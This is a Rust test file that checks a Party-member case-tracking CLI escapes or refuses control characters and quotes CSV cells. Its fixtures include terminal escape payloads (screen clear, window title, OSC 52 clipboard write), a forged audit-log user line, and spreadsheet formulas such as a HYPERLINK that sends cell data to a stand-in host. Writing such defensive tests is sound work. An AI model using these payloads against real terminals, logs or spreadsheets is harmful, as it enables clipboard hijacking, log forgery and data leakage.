//! No control characters in, none out (issue 12, item 3), through the real
//! binary: every action and import refuses them naming the field (column),
//! and every command that prints data escapes what a hand-edited file
//! holds: `alerts`, `case show`, `case list`, `audit`, `dossier` (txt, md,
//! html, to stdout and to a file), `draft`, the import problem list, exec's
//! error echo. `SHILIAN_USER` is validated; CSV cells that a spreadsheet
//! would read as a formula are quoted.

use crate::support::reliability::{create_case, db_with_cases, exec, run, search, shilian, text};
use rusqlite::Connection;
use std::path::Path;

/// Screen clear, window title, OSC 52 clipboard write, a C1 CSI, DEL,
/// a right-to-left override and a forged line.
const HOSTILE: &str =
    "\u{1b}[2J\u{1b}]0;pwned\u{7}\u{1b}]52;c;ZWNobyBoaQ==\u{7}\u{9b}31m\u{7f}\u{202e}\n伪造行";

/// Bytes a terminal would act on: C0 except newline and tab, DEL, C1 (as
/// UTF-8), and the direction overrides.
fn dangerous(s: &str) -> Option<char> {
    s.chars().find(|&c| {
        let u = c as u32;
        (u < 0x20 && c != '\n' && c != '\t')
            || (0x7f..=0x9f).contains(&u)
            || (0x202a..=0x202e).contains(&u)
    })
}

fn assert_clean(what: &str, o: &std::process::Output) {
    for (stream, bytes) in [("stdout", &o.stdout), ("stderr", &o.stderr)] {
        let s = String::from_utf8_lossy(bytes);
        assert_eq!(dangerous(&s), None, "{what} {stream}: {s:?}");
        assert!(
            !s.contains("\n伪造行"),
            "{what} {stream} forged a line: {s:?}"
        );
    }
}

/// A database whose case 1 was edited behind the tool's back: name,
/// employer, a search note and an audit user hold `HOSTILE`.
fn planted() -> (tempfile::TempDir, std::path::PathBuf) {
    let (dir, db) = db_with_cases(2);
    let out = exec(
        &db,
        &serde_json::to_string(&[search(1, 3, "x")]).expect("json"),
    );
    assert!(out.status.success(), "{}", text(&out));
    let raw = Connection::open(&db).expect("raw");
    raw.execute(
        "UPDATE cases SET name = ?1, employer = ?1, branch = '第1党支部' || ?1 WHERE id = 1",
        [HOSTILE],
    )
    .expect("plant case");
    raw.execute("UPDATE searches SET note = ?1, who = ?1", [HOSTILE])
        .expect("plant note");
    raw.execute_batch("DROP TRIGGER audit_no_update")
        .expect("drop");
    raw.execute("UPDATE audit SET user = ?1 WHERE seq = 1", [HOSTILE])
        .expect("plant user");
    (dir, db)
}

#[test]
fn every_command_that_prints_data_escapes_control_characters() {
    let (dir, db) = planted();
    let mut printed = 0;
    let commands: &[&[&str]] = &[
        &["alerts"],
        &["alerts", "--within", "400"],
        &["alerts", "--json"],
        &["case", "show", "1"],
        &["case", "show", "1", "--json"],
        &["case", "list"],
        &["case", "list", "--json"],
        &["case", "list", "--text", "第1"],
        &["audit"],
        &["audit", "--case", "1"],
        &["audit", "--json"],
        &["dossier", "1"],
        &["dossier", "1", "--format", "md"],
        &["dossier", "1", "--format", "html"],
        &["verify"],
    ];
    for args in commands {
        let out = run(&db, args);
        assert_clean(&args.join(" "), &out);
        printed += 1;
        // The data is shown, escaped, not dropped.
        let all = String::from_utf8_lossy(&out.stdout);
        if !args.contains(&"--json") && !args.contains(&"verify") && args[0] != "alerts" {
            assert!(all.contains("\\x1b[2J"), "{args:?}: {all}");
        }
    }
    for (fmt, name) in [("md", "d.md"), ("html", "d.html"), ("txt", "d.txt")] {
        let path = dir.path().join(name);
        let out = run(
            &db,
            &[
                "dossier",
                "1",
                "--format",
                fmt,
                "--out",
                path.to_str().expect("path"),
            ],
        );
        assert!(out.status.success(), "{}", text(&out));
        let body = std::fs::read_to_string(&path).expect("dossier file");
        assert_eq!(dangerous(&body), None, "{fmt}: {body}");
        assert!(body.contains("\\x1b]52;c;"), "{fmt}: shown escaped");
        printed += 1;
    }
    let draft = dir.path().join("draft.md");
    let out = run(
        &db,
        &[
            "draft",
            "restoration_record",
            "1",
            "--out",
            draft.to_str().expect("p"),
        ],
    );
    if out.status.success() {
        let body = std::fs::read_to_string(&draft).expect("draft");
        assert_eq!(dangerous(&body), None, "draft: {body}");
        printed += 1;
    }
    assert_clean("draft", &out);
    eprintln!("injection matrix: {printed} outputs checked, none carried a control character");
}

#[test]
fn exec_and_import_refuse_control_characters_naming_the_field() {
    let (dir, db) = db_with_cases(1);
    let before = std::fs::read(&db).expect("bytes");
    let mut bad = create_case(7);
    bad["member"]["employer"] = serde_json::json!("公司\u{1b}]0;x\u{7}");
    let out = exec(&db, &serde_json::to_string(&[bad]).expect("json"));
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("member.employer") && err.contains("U+001B"),
        "{err}"
    );
    assert_clean("exec refusal", &out);
    let mut who = search(1, 2, "ok");
    who["who"] = serde_json::json!("王\n伪造");
    let out = exec(&db, &serde_json::to_string(&[who]).expect("json"));
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("\"who\""),
        "{}",
        text(&out)
    );
    assert_eq!(
        std::fs::read(&db).expect("bytes"),
        before,
        "nothing written"
    );
    // A note may span lines.
    let note = search(1, 2, "第一行\n第二行\t完");
    let out = exec(&db, &serde_json::to_string(&[note]).expect("json"));
    assert!(out.status.success(), "{}", text(&out));
    // An unknown action name holding escapes: the parse error echoes it escaped.
    let out = exec(&db, r#"[{"action":"\u001b]0;pwned\u0007\u001b[2J"}]"#);
    assert_eq!(out.status.code(), Some(1));
    assert_clean("exec error echo", &out);
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("\\x1b"),
        "{}",
        text(&out)
    );
    import_refuses(dir.path(), &db);
}

fn import_refuses(dir: &Path, db: &Path) {
    let csv = dir.join("m.csv");
    let id = crate::support::reliability::id_number("110105", "19900101", 5);
    std::fs::write(
        &csv,
        format!(
            "姓名,性别,身份证号,出生日期,党员类别,党支部,基层党委,入党日期,工作单位,最后联系日期,\u{1b}]0;列\u{7}\n\
             李四,男,{id},1990-01-01,正式党员,第1党支部,测试街道党工委,2012-07-01,公司\u{1b}[2J,2024-01-01,x\n"
        ),
    )
    .expect("csv");
    let out = run(db, &["import", csv.to_str().expect("p")]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert_clean("import problem list", &out);
    let all = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        all.contains("U+001B"),
        "the problem names the character: {all}"
    );
    assert!(
        all.contains("工作单位"),
        "the problem names the column: {all}"
    );
}

#[test]
fn shilian_user_must_be_a_plain_name() {
    let (_dir, db) = db_with_cases(1);
    for bad in [
        "王\n#9 2025 mallory create_case",
        "a\u{1b}[2Jb",
        &"长".repeat(65),
    ] {
        let out = shilian(&db)
            .env("SHILIAN_USER", bad)
            .args(["case", "list"])
            .output()
            .expect("run");
        assert_eq!(out.status.code(), Some(1), "{bad:?}: {}", text(&out));
        assert!(
            String::from_utf8_lossy(&out.stderr).contains("SHILIAN_USER"),
            "{}",
            text(&out)
        );
        assert_clean("SHILIAN_USER", &out);
    }
    let out = shilian(&db)
        .env("SHILIAN_USER", "王 干事")
        .args(["case", "list"])
        .output()
        .expect("run");
    assert!(out.status.success(), "{}", text(&out));
}

#[test]
fn csv_exports_quote_cells_a_spreadsheet_would_run() {
    let (dir, db) = db_with_cases(1);
    let raw = Connection::open(&db).expect("raw");
    raw.execute(
        "UPDATE cases SET name = '=HYPERLINK(\"http://x/?\"&A1,\"点\")', branch = '+1', committee = '@SUM(A1)' WHERE id = 1",
        [],
    )
    .expect("plant");
    drop(raw);
    for (args, name) in [
        (vec!["export", "roster", "--format", "csv"], "r.csv"),
        (vec!["export", "case", "1", "--format", "csv"], "c.csv"),
    ] {
        let path = dir.path().join(name);
        let mut a = args.clone();
        a.extend(["--out", path.to_str().expect("p")]);
        let out = run(&db, &a);
        assert!(out.status.success(), "{}", text(&out));
        let body = std::fs::read_to_string(&path).expect("csv");
        let mut rd = csv::ReaderBuilder::new()
            .flexible(true)
            .has_headers(false)
            .from_reader(body.as_bytes());
        for rec in rd.records() {
            for cell in rec.expect("record").iter() {
                assert!(
                    !cell.starts_with(['=', '+', '@']),
                    "{name}: {cell:?} in {body}"
                );
            }
        }
        assert!(body.contains("'=HYPERLINK"), "{name}: {body}");
    }
    let out = run(
        &db,
        &[
            "export",
            "roster",
            "--format",
            "xlsx",
            "--out",
            dir.path().join("r.xlsx").to_str().expect("p"),
        ],
    );
    assert!(out.status.success(), "{}", text(&out));
}
